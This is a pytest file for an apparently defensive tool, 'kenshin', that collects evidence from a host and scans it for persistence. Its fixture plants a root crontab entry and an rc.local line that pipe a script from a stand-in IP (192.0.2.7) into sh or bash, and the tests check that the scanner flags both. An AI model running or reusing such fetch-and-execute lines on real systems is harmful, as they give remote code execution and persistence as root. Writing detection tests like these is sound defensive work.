"""Through the command line: a bundle is as good as its host, and a hole hides nothing but itself."""

import gzip
import json
import os
from pathlib import Path
from typing import Any

import pytest

from kenshin.cli.main import main
from kenshin.sources import collected
from tests.collector import hostile
from tests.collector.harness import NOBODY, as_root

JOB = "* * * * * root wget -q -O- http://192.0.2.7/x.sh | sh"
STATUS = """\
Package: cron
Status: install ok installed
Version: 3.0
Conffiles:
 /etc/default/cron 0123456789abcdef0123456789abcdef

"""


def host(root: Path) -> Path:
    """A small host, broken into by its crontab."""
    files = {
        "etc/os-release": 'PRETTY_NAME="Debian GNU/Linux 12"\nID=debian\n',
        "etc/hostname": "web1\n",
        "etc/crontab": f"SHELL=/bin/sh\n{JOB}\n",
        "etc/rc.local": "#!/bin/sh\ncurl -fsSL http://192.0.2.7/i.sh | bash\nexit 0\n",
        "var/lib/dpkg/status": STATUS,
        "var/lib/dpkg/info/cron.list": "/.\n/usr\n",
        "var/lib/dpkg/info/cron.md5sums": "",
        "var/spool/cron/crontabs/www-data": "*/5 * * * * /opt/jobs/run\n",
    }
    for path, text in files.items():
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).write_text(text)
    (root / "etc/rc.local").chmod(0o755)
    return root


def scanned(uri: str, capsys: pytest.CaptureFixture[str]) -> tuple[int, dict[str, Any]]:
    """The exit code and the assessment."""
    capsys.readouterr()
    code = main(["scan", uri, "--format", "json"])
    said = capsys.readouterr()
    assert said.err == ""
    return code, json.loads(said.out)


def holes(assessment: dict[str, Any]) -> str:
    return json.dumps(assessment["coverage"])


def finds_the_job(assessment: dict[str, Any]) -> bool:
    return any(f["path"] == "/etc/crontab" and f["line"] == 2 for f in assessment["findings"])


def finds_rc_local(assessment: dict[str, Any]) -> bool:
    return any(f["path"] == "/etc/rc.local" and f["line"] == 2 for f in assessment["findings"])


@pytest.mark.parametrize("is_hostile", [False, True])
def test_a_bundle_is_judged_as_its_host(
    tmp_path: Path, is_hostile: bool, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    root = tmp_path / "root"
    if is_hostile:
        hostile.plant(root)
        hostile.dig(root / "var/spool/cron", 60)
    host(root)
    monkeypatch.chdir(tmp_path)
    file = tmp_path / "host.evidence"
    code, direct = scanned(f"root:{root}", capsys)
    assert main(["collect", f"root:{root}", "-o", str(file)]) == 0
    assert file.stat().st_mode & 0o777 == 0o600
    code_of_bundle, judged = scanned(f"bundle:{file}", capsys)
    file.write_bytes(gzip.decompress(file.read_bytes()))
    _, of_plain = scanned(f"bundle:{file}", capsys)
    for assessment in (direct, judged, of_plain):
        assessment.pop("target")
        assessment.pop("host")
    assert json.dumps(judged, indent=1) == json.dumps(direct, indent=1)
    assert of_plain == judged
    assert code == code_of_bundle
    assert code in (20, 30)
    assert finds_the_job(direct)
    assert ("deeper than 40" in holes(direct)) == is_hostile


@pytest.fixture
def root(public: Path) -> Path:
    return host(public)


def test_a_fifo_named_root_in_the_spool(root: Path, capsys: pytest.CaptureFixture[str]) -> None:
    os.mkfifo(root / "var/spool/cron/crontabs/root")
    code, assessment = scanned(f"root:{root}", capsys)
    assert code in (20, 30, 40)
    assert "/var/spool/cron/crontabs/root" in holes(assessment)
    assert finds_the_job(assessment)
    assert finds_rc_local(assessment)


@as_root
def test_an_unreadable_spool(
    root: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    (root / "var/spool/cron").chmod(0o700)
    program = collected.program
    nobody = f"\n{NOBODY}\nmain(".encode()
    monkeypatch.setattr(collected, "program", lambda *given: program(*given).replace(b"\nmain(", nobody))
    code, assessment = scanned(f"root:{root}", capsys)
    assert code in (20, 30)
    assert '"/var/spool/cron"' in holes(assessment)
    assert "denied" in holes(assessment)
    assert finds_the_job(assessment)
    assert finds_rc_local(assessment)
    for name in ("crontab", "rc.local"):
        (root / "etc" / name).unlink()
    assert scanned(f"root:{root}", capsys)[0] == 40


def cut(file: Path, at: float) -> None:
    data = file.read_bytes()
    file.write_bytes(data[: int(len(data) * at)])


def test_a_cut_bundle(root: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    file = tmp_path / "host.evidence"
    assert main(["collect", f"root:{root}", "-o", str(file)]) == 0
    lines = gzip.decompress(file.read_bytes()).splitlines(keepends=True)
    told = next(number for number, line in enumerate(lines) if b"192.0.2.7/x.sh" in line)
    file.write_bytes(gzip.compress(b"".join(lines[: told + 1])))
    code, assessment = scanned(f"bundle:{file}", capsys)
    assert code in (20, 30)
    assert finds_the_job(assessment)
    assert "cut off" in holes(assessment)
    assert "this bundle does not hold it" in holes(assessment)
    file.write_bytes(gzip.compress(b"".join(lines[:told])))
    assert scanned(f"bundle:{file}", capsys)[0] == 40


@pytest.mark.parametrize("status", [os.urandom(4000), STATUS.encode()[:-60], b"Package: cron\nStatus", b""])
def test_a_corrupted_dpkg_status(root: Path, status: bytes, capsys: pytest.CaptureFixture[str]) -> None:
    (root / "var/lib/dpkg/status").write_bytes(status)
    code, assessment = scanned(f"root:{root}", capsys)
    assert code in (20, 30)
    assert finds_the_job(assessment)
    assert finds_rc_local(assessment)
    assert "/var/lib/dpkg" in holes(assessment)


@pytest.fixture(params=["text", "empty", "packed", "directory", "absent", "json"])
def no_bundle(request: pytest.FixtureRequest, tmp_path: Path) -> Path:
    path = tmp_path / "no.evidence"
    contents = {
        "text": b"hello\n",
        "empty": b"",
        "packed": gzip.compress(b"hello"),
        "json": b'{"kenshin_bundle":9}\n',
    }
    if request.param == "directory":
        path.mkdir()
    elif request.param != "absent":
        path.write_bytes(contents[request.param])
    return path


def test_what_is_no_bundle_is_said_to_be_none(no_bundle: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["scan", f"bundle:{no_bundle}"]) == 1
    said = capsys.readouterr()
    assert str(no_bundle) in said.err
    assert "kenshin collect" in said.err
    assert "Traceback" not in said.err


def test_where_a_bundle_cannot_be_written_it_says_so(
    root: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["collect", f"root:{root}", "-o", str(tmp_path)]) == 1
    assert "cannot write" in capsys.readouterr().err
    assert main(["collect", "root:/nonexistent", "-o", str(tmp_path / "new")]) == 1
    assert not (tmp_path / "new").exists()
    assert main(["collect", f"bundle:{tmp_path}", "-o", str(tmp_path / "new")]) == 2


def test_jobs_in_a_directory_that_is_a_link_are_seen(root: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (root / "opt/jobs").mkdir(parents=True)
    (root / "opt/jobs/hidden").write_text(f"{JOB}\n")
    (root / "etc/cron.d").symlink_to("/opt/jobs")
    _, assessment = scanned(f"root:{root}", capsys)
    assert any(finding["path"] == "/opt/jobs/hidden" for finding in assessment["findings"])
